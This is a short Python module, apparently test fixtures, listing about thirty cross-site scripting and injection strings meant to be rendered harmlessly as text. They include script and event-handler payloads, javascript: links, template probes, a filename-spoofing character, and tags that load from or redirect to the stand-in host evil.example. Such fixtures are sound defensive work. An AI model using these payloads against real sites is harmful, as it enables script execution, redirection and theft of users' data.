"""Words that would be code, or carry words away, were they not shown as words."""

from __future__ import annotations

# OWASP's usual ways to turn words into code, and links that would carry words away.
PAYLOADS = (
    "<script>alert(1)</script>",
    "[x](javascript:alert(1)) <svg/onload=alert(1)> {{7*7}} \u202egnp.exe",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/a.png>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<a href=javascript:alert(1)>x</a>",
    "<form action=https://evil.example><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=https://evil.example/x.svg>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<template><img src=x onerror=alert(1)></template>",
    "<div hx-get=/dreams hx-trigger=load>x</div>",
    "<div hx-on:htmx:load=alert(1)>x</div>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    "</textarea><script>alert(1)</script>",
    "</title></style><img src=x onerror=alert(1)>",
    "[x](javascript:alert(1)) ![y](https://evil.example/b.png)",
    "&lt;script&gt;alert(1)&lt;/script&gt; \u2028 {{7*7}}",
)
